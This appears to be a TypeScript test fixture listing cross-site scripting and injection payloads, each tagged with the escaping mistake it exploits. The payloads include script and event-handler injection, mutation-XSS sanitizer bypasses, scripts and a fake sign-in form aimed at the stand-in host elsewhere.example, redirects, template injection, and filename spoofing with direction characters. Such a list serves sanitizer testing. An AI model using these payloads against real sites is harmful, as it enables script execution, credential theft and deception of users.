/**
 * Texts that would run a script, load something, or deceive a reader if a page treated them as something other than
 * text. Each text exploits one mistake in the code of a page. The type `Hole` lists these mistakes. `ran()`, `alert()`
 * and requests to `elsewhere.example` can be observed.
 */
export type Hole =
  /** The text is written into the page as markup. */
  | 'markup'
  /** The text is written into an attribute with double quotes, with single quotes, or without quotes. */
  | 'double'
  | 'single'
  | 'bare'
  /** The text is used as the address of a link. */
  | 'address'
  /** The text is written into an element whose text ends at its end tag. */
  | 'title'
  | 'textarea'
  | 'comment'
  /** The text is written into a script as a string, or with a backslash before its quotation marks. */
  | 'script'
  | 'quoted'
  /** The text is written into a style sheet. */
  | 'style'
  /** Entities in the text are decoded, and then the text is written as markup. */
  | 'decoded'
  /** Null characters are removed, and then the text is written as markup. */
  | 'stripped'
  /** The text is evaluated as a template. */
  | 'template'
  /** The text is read as Markdown. */
  | 'markdown'
  /** The text is shown within a sentence, without isolation of its direction. */
  | 'sentence';

const from = (hole: Hole, ...texts: readonly string[]): readonly (readonly [Hole, string])[] =>
  texts.map((text) => [hole, text]);

/** All payloads, each with the mistake (`Hole`) that it exploits. Texts have at most 100 characters. */
export const markupPayloads: readonly (readonly [Hole, string])[] = [
  ...from(
    'markup',
    '<script>ran()</script>',
    '<script src=//elsewhere.example/a.js></script>',
    '<img src=x onerror=ran()>',
    '<IMG/SRC="x"/ONERROR=alert(1)>',
    '<img src="https://elsewhere.example/pixel">',
    '<svg/onload=ran()>',
    '<svg><animate onbegin=ran() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>',
    '<math><mi xlink:href="javascript:ran()">x</mi></math>',
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    '<iframe src="javascript:parent.ran()"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="//elsewhere.example/e">',
    '<details open ontoggle=ran()><summary>x</summary></details>',
    '<input autofocus onfocus=ran()>',
    '<video><source onerror=ran()></video>',
    '<form action="https://elsewhere.example/"><button>Sign in</button></form>',
    '<a href="javascript:ran()">Open</a>',
    '<base href="https://elsewhere.example/">',
    '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
    '<link rel=stylesheet href="https://elsewhere.example/s.css">',
    '<style>@import "https://elsewhere.example/i.css";</style>',
    '<div style="background:url(https://elsewhere.example/b)">x</div>',
    '<marquee onstart=ran()>x</marquee>',
    '<template><img src=x onerror=ran()></template>',
    // Mutation: the page checks the elements that the first parse of the text finds, but a later parse finds different
    // elements.
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
    '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
    '<svg><desc><![CDATA[</desc><img src=x onerror=ran()>]]>',
  ),
  ...from(
    'double',
    '"><img src=x onerror=ran()>',
    '" onfocus="ran()" autofocus x="',
    '" onmouseover=ran() style="position:fixed;inset:0',
  ),
  ...from('single', "'><svg onload=ran()>", "' autofocus onfocus='ran()"),
  ...from('bare', 'x onfocus=ran() autofocus', '`><img src=x onerror=ran()>'),
  ...from(
    'address',
    'javascript:ran()',
    'JaVaScRiPt:ran()//',
    'java\tscript:ran()',
    '\u0001javascript:ran()',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    '//elsewhere.example/%2f..',
    '/\\elsewhere.example',
  ),
  ...from('title', '</title><script>ran()</script>', '</h1></title><img src=x onerror=ran()>'),
  ...from('textarea', '</textarea><img src=x onerror=ran()>'),
  ...from('comment', '--><img src=x onerror=ran()><!--'),
  ...from('script', '{"a":"</script><script>ran()</script>"}', '";ran();"', '</SCRIPT/x><svg onload=ran()>'),
  ...from('quoted', '\\";ran();//'),
  ...from('style', '</style><img src=x onerror=ran()>', '}*{background:url(//elsewhere.example/c)}'),
  ...from(
    'decoded',
    '&lt;img src=x onerror=ran()&gt;',
    '&#x3c;svg onload=ran()&#x3e;',
    '&#0000060img src=x onerror&equals;ran&lpar;&rpar;&gt;',
  ),
  ...from('stripped', '<scr\u0000ipt>ran()</scr\u0000ipt>', '<im\u0000g src=x oner\u0000ror=ran()>'),
  ...from('template', `\${ran()}`, '{{constructor.constructor("ran()")()}}', '<%= ran() %>'),
  ...from('markdown', '[x](javascript:ran())', '![x](https://elsewhere.example/m.png)', '<javascript:ran()>'),
  ...from('sentence', '\u202eteg\u202dabc', '\u2066gnp.exe\u2067x'),
];

/** All payloads that a database can store, which refuses null characters. */
export const storedPayloads: readonly string[] = markupPayloads.flatMap(([, text]) =>
  text.includes('\u0000') ? [] : [text],
);
